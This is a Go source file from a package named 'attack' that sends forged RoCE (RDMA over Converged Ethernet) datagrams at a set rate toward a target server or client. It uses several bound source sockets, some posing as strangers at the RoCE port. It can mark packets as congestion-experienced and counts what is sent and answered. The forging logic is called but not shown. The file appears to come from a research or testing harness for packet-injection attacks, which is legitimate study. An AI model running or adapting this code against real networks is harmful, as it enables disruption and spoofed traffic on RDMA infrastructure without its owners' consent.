package attack

import (
	"context"
	"net/netip"
	"time"

	"github.com/goroce/goroce/ib"
	"github.com/goroce/goroce/internal/unix"
)

// burstTime is how often an attacker sends what is due.
const burstTime = time.Millisecond

// sockets are those that an attacker sends from. A stranger's is at RoCE's port, and takes what is
// answered.
type sockets struct {
	fds map[from]int
	to  map[from]unix.Sockaddr
}

// socket opens one.
func (s *sockets) socket(k *Known, f from, ce bool) (port uint16, err error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
	if err != nil {
		return 0, err
	}
	at := unix.SockaddrInet4{Addr: k.addrOf(f).As4()}
	if f >= asStranger {
		at.Port = ib.UDPPort
	}
	if err := unix.Bind(fd, &at); err != nil {
		return 0, err
	}
	// The ICRC covers the flag that forbids fragments.
	if err := unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_MTU_DISCOVER, unix.IP_PMTUDISC_DO); err != nil {
		return 0, err
	}
	if ce {
		if err := unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_TOS, 3); err != nil {
			return 0, err
		}
	}
	own, err := unix.Getsockname(fd)
	if err != nil {
		return 0, err
	}
	var dst netip.Addr = k.Server
	if f == asServer {
		dst = k.Client
	}
	s.fds[f], s.to[f] = fd, &unix.SockaddrInet4{Port: ib.UDPPort, Addr: dst.As4()}
	return uint16(own.(*unix.SockaddrInet4).Port), nil
}

// attackServer begins to send.
func (c *child) attackServer(ctx context.Context) error {
	a := c.attack()
	s := &sockets{map[from]int{}, map[from]unix.Sockaddr{}}
	ports := map[from]uint16{}
	for f := range asStranger + sources {
		port, err := s.socket(&c.Known, f, a.CE)
		if err != nil {
			return err
		}
		ports[f] = port
	}
	next := a.make(newForger(c.Known, c.Seed, func(f from) uint16 { return ports[f] }))
	go func() {
		began, t := time.Now(), time.NewTicker(burstTime)
		defer t.Stop()
		for n := 0; ctx.Err() == nil; <-t.C {
			for due := int(time.Since(began).Seconds() * float64(a.Rate)); n < due; n++ {
				f, b := next(n)
				if unix.Sendto(s.fds[f], b, 0, s.to[f]) != nil {
					c.failed.Add(1)
					continue
				}
				c.ops.Add(1)
				c.bytes.Add(uint64(len(b)))
			}
			c.drain(s)
		}
	}()
	return nil
}

// drain counts what has come to the strangers, a few datagrams of each.
func (c *child) drain(s *sockets) {
	var b [2048]byte
	for f := asStranger; f < asStranger+sources; f++ {
		for range 16 {
			n, _, err := unix.Recvfrom(s.fds[f], b[:], 0)
			if err != nil {
				break
			}
			c.heard.Add(uint64(n))
		}
	}
}
